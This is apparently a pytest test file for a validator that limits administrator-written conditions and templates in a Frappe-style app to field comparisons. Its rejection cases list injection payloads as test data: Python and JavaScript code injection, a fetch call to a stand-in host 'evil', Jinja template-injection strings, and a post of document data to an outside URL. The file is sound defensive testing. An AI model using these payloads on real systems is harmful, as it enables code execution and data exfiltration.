"""What an administrator may write into conditions and texts: fields and comparisons, and nothing that runs."""

from __future__ import annotations

import pytest

from ppoc.access.customising.expressions import (
	NotAllowed,
	check_browser_condition,
	check_condition,
	check_template,
)

FIELDS = {"title", "status", "due_on", "overdue", "place"}


def readable(name: str) -> bool:
	return name in FIELDS


@pytest.mark.parametrize(
	"text",
	[
		"doc.status == 'Open'",
		'doc.status in ("Open", "Done") and not doc.due_on',
		"doc.overdue > 3 or doc.overdue == -1",
		"doc.name != doc.owner",
	],
)
def test_a_condition_compares_fields(text: str) -> None:
	check_condition(text, readable)


@pytest.mark.parametrize(
	"text",
	[
		"doc.delete()",
		"doc.status.upper() == 'OPEN'",
		"doc.__class__",
		"doc['status']",
		"frappe.utils.now()",
		"doc",
		"[x for x in doc.status]",
		"(lambda: 1)()",
		"doc.secret == 1",
		"doc.has_permission",
		"doc.status == frappe",
		"doc.status if doc.due_on else doc.title",
		"f'{doc.status}'",
		"doc.status == ",
		"(" * 5000,
		"doc.status == 'Open'; doc.delete()",
	],
)
def test_a_condition_does_nothing_else(text: str) -> None:
	with pytest.raises(NotAllowed):
		check_condition(text, readable)


@pytest.mark.parametrize(
	"text",
	[
		"place",
		"eval:doc.place",
		"eval:doc.status == 'Open' && !doc.due_on",
		'eval: doc.overdue>=3||doc.title=="a"',
	],
)
def test_a_condition_in_the_browser_compares_fields(text: str) -> None:
	check_browser_condition(text, readable)


@pytest.mark.parametrize(
	"text",
	[
		"eval:alert(1)",
		"eval:doc.status == 'Open' && fetch('//evil')",
		"fn:whatever",
		"eval:doc.status = 'Open'",
		"eval:doc.status == `x`",
		"eval:doc.secret",
		"eval:doc.constructor.constructor('x')()",
		"eval:doc.status == 'a' + frappe.x + 'b'",
		"secret",
		"eval:doc.status == 'a\\' && x",
	],
)
def test_a_condition_in_the_browser_does_nothing_else(text: str) -> None:
	with pytest.raises(NotAllowed):
		check_browser_condition(text, readable)


@pytest.mark.parametrize(
	"text",
	[
		"No field at all. 100 % {of} it",
		"{{ doc.title }} is due",
		"{{ doc.title | upper | e }}",
		"{{ frappe.utils.format_date(doc.due_on) }} {{ frappe.utils.format_date(doc.due_on, 'd MMM') }}",
		'<a href="{{ frappe.utils.get_url_to_form(doc.doctype, doc.name) }}">{{ doc.name }}</a>',
		"{# a remark #}{{ doc.title }}",
		'<small class="sub-heading">{{ _(doc.name) }}</small>',
	],
)
def test_a_text_names_fields(text: str) -> None:
	check_template(text, readable)


@pytest.mark.parametrize(
	"text",
	[
		"{{ frappe.db.get_value('Child', doc.name, 'date_of_birth') }}",
		"{{ doc.delete() }}",
		"{{ doc.title.__class__ }}",
		"{{ doc['secret'] }}",
		"{{ doc.secret }}",
		"{% for row in frappe.get_all('Child') %}{{ row.name }}{% endfor %}",
		"{% set doc = frappe.get_doc('Child', 'x') %}{{ doc.title }}",
		"{% include 'templates/x.html' %}",
		"{{ frappe.make_post_request('https://example.org', data=doc.title) }}",
		"{{ doc.title | attr('x') }}",
		"{{ frappe.utils.format_date(frappe.get_all('Child')) }}",
		"{{ frappe.utils.get_url_to_form('Child', doc.title) }}",
		"{{ doc.title ~ doc.secret }}",
		"{{ (doc.title, frappe.get_all('Child')) }}",
		"{{ doc.title }}{{ '}}' ~ frappe.get_all('Child') }}",
		"{{ doc.title ",
		"templates/emails/new_user.html",
		"{{{ doc.title }}}",
		"{{ _(doc.secret) }}",
		"{{ _(frappe.get_all('Child')) }}",
		"{{ _(doc.title, doc.secret) }}",
		"{{ _.__globals__(doc.title) }}",
	],
)
def test_a_text_does_nothing_else(text: str) -> None:
	with pytest.raises(NotAllowed):
		check_template(text, readable)


def test_what_a_shipped_text_does_may_stay_when_its_words_change() -> None:
	before = "<p>Due.</p>{% for row in doc.papers %}<li>{{ row.document | e }}</li>{% endfor %}"
	check_template(before.replace("Due.", "Now due, {{ doc.title }}."), readable, before)
	check_template("{% for row in doc.papers %}<b>{{ row.document | e }}</b>{% endfor %}", readable, before)
	with pytest.raises(NotAllowed):
		check_template(before.replace("row.document", "row.secret"), readable, before)
	with pytest.raises(NotAllowed):
		check_template(before + "{{ frappe.get_all('Child') }}", readable, before)
